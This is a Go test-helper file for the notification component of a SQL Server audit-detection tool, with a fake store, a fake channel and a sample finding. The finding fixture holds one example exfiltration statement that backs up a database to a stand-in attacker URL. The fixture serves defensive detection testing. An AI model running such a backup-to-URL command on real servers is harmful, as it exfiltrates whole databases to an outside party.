package notify

import (
	"context"
	"fmt"
	"sync"
	"time"

	"github.com/xelwatch/xelwatch/detect"
	"github.com/xelwatch/xelwatch/handler/internal/store"
)

// fakeStore is an in-memory Store with the claim semantics of
// store.Store, recording calls.
type fakeStore struct {
	mu       sync.Mutex
	findings map[string]detect.Finding
	state    map[string]string // id/channel → claimed, delivered, failed
	token    map[string]string
	claimed  map[string]time.Time
	calls    []string
	n        int
	failNext map[string]error // method → error returned once
}

func newFakeStore() *fakeStore {
	return &fakeStore{
		findings: map[string]detect.Finding{}, state: map[string]string{}, token: map[string]string{},
		claimed: map[string]time.Time{}, failNext: map[string]error{},
	}
}

func (s *fakeStore) fail(method string) error {
	err := s.failNext[method]
	delete(s.failNext, method)
	return err
}

func (s *fakeStore) RecordFinding(_ context.Context, f detect.Finding) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.calls = append(s.calls, "record "+f.DetectionID)
	if err := s.fail("record"); err != nil {
		return err
	}
	if _, ok := s.findings[f.DetectionID]; !ok {
		s.findings[f.DetectionID] = f
	}
	return nil
}

func (s *fakeStore) ClaimDelivery(_ context.Context, id, channel string, lease time.Duration) (string, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.calls = append(s.calls, "claim "+channel)
	if err := s.fail("claim"); err != nil {
		return "", err
	}
	if _, ok := s.findings[id]; !ok {
		return "", store.ErrNotFound
	}
	k := id + "/" + channel
	switch {
	case s.state[k] == "delivered":
		return "", store.ErrDelivered
	case s.state[k] == "claimed" && time.Since(s.claimed[k]) < lease:
		return "", store.ErrClaimed
	}
	s.n++
	tok := fmt.Sprint(s.n)
	s.state[k], s.token[k], s.claimed[k] = "claimed", tok, time.Now()
	return tok, nil
}

func (s *fakeStore) mark(id, channel, token, state string) error {
	k := id + "/" + channel
	if s.token[k] != token {
		return store.ErrClaimLost
	}
	s.state[k] = state
	return nil
}

func (s *fakeStore) MarkDelivered(_ context.Context, id, channel, token string) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.calls = append(s.calls, "delivered "+channel)
	if err := s.fail("delivered"); err != nil {
		return err
	}
	return s.mark(id, channel, token, "delivered")
}

func (s *fakeStore) MarkFailed(_ context.Context, id, channel, token, reason string) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.calls = append(s.calls, "failed "+channel)
	return s.mark(id, channel, token, "failed")
}

// fakeChannel counts sends and fails while err is set.
type fakeChannel struct {
	name  string
	mu    sync.Mutex
	sent  []string
	err   error
	block chan struct{} // when set, Send waits for it or ctx
}

func (c *fakeChannel) Name() string { return c.name }

func (c *fakeChannel) Send(ctx context.Context, f detect.Finding) error {
	if c.block != nil {
		select {
		case <-c.block:
		case <-ctx.Done():
			return ctx.Err()
		}
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.err != nil {
		return c.err
	}
	c.sent = append(c.sent, f.DetectionID)
	return nil
}

func (c *fakeChannel) count() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return len(c.sent)
}

func testFinding(id string, sev detect.Severity) detect.Finding {
	at := time.Date(2026, 11, 21, 20, 31, 39, 0, time.UTC)
	return detect.Finding{
		DetectionID: id, Rule: "EXF-001", Title: "Backup to an unapproved destination", Severity: sev,
		Technique: "T1537", Why: "BACKUP DATABASE <db> to URL https://evil.example & co", Server: "srv1", Database: "db1",
		Principal: "mallory", Time: at,
		Records: []detect.Evidence{{EventTime: at, ActionID: "BA", Succeeded: true, Server: "srv1", ClientIP: "10.1.2.3",
			Application: "sqlcmd", Statement: "BACKUP DATABASE [db1] TO URL = 'https://evil.example/x.bak'", FileName: "f.xel", AuditFileOffset: 4096}},
	}
}
